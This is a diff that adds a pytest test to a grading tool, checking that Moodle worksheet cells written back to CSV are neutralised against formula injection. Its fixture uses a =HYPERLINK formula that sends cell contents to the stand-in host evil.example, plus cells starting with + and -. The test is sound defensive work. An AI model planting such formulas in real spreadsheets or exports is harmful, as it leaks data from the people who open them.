@@ -15,8 +15,9 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 import pytest
 
 from exactmark.base.tree import Refused
-from exactmark.platforms import canvas_api, gradescope_export
-from exactmark.platforms.download import Context
+from exactmark.platforms import canvas_api, gradescope_export, moodle
+from exactmark.platforms.download import Context, Returned
+from tests.platforms import moodle_download
 from tests.platforms.gradescope_download import (METADATA, Submission, Submitter,
                                                  export_folder_name, write_export)
 
@@ -235,3 +236,34 @@ def test_a_team_of_many_submitters_is_read_once_each(tmp_path):
     download = gradescope_export.read(tmp_path, CONTEXT)
     (handin,) = download.handins
     assert [person.id for person in handin.members] == [str(n) for n in range(5_000)]
+
+
+
+# Moodle: the grading worksheet goes back to the instructor's spreadsheet, then to Moodle.
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+
+
+def test_a_worksheet_cell_a_student_wrote_goes_back_as_text_never_a_formula(tmp_path):
+    """A student who named themselves =HYPERLINK(...) (Moodle's worksheet writes the name as
+    it is), with an email and a department that start a formula: in moodle-worksheet.csv each
+    gets the kit's apostrophe; the cells Moodle's upload reads, and Moodle's own, stay byte for
+    byte."""
+    columns = moodle_download.INDIVIDUAL[:3] + ("Department",) + moodle_download.INDIVIDUAL[3:]
+    cells = {"Identifier": "Participant 11", "Full name": HYPERLINK, "Email address": "+1@x.edu",
+             "Department": "-2+3", "Status": "Submitted for grading", "Grade": "",
+             "Maximum Grade": "10.00", "Grade can be changed": "Yes",
+             "Last modified (submission)": "-", "Last modified (grade)": "-",
+             "Feedback comments": ""}
+    sheet = tmp_path / "worksheet.csv"
+    sheet.write_bytes(moodle_download.worksheet([cells], columns))
+    download = moodle_download.write_folder(tmp_path / "download", moodle_download.entries(
+        moodle_download.student_prefix(HYPERLINK, 11), {"solitaire_1.py": b"print(1)\n"}))
+    context = Context(**{**vars(CONTEXT), "worksheet": sheet})
+    read = moodle.read(download, context)
+    (student,) = read.roster
+    assert student.name == HYPERLINK  # as Moodle has it, for the pages (escaped there)
+    moodle.write_back(tmp_path, read, [Returned(student, 8.0, 10.0, "marked")], context)
+    lines = (tmp_path / moodle.WRITTEN).read_bytes().decode("utf-8-sig").splitlines()
+    assert lines[1] == ('"Participant 11","\'=HYPERLINK(""http://evil.example/?""&A2,""click"")",'
+                        "'+1@x.edu,'-2+3,\"Submitted for grading\",8,10.00,Yes,-,-,marked")
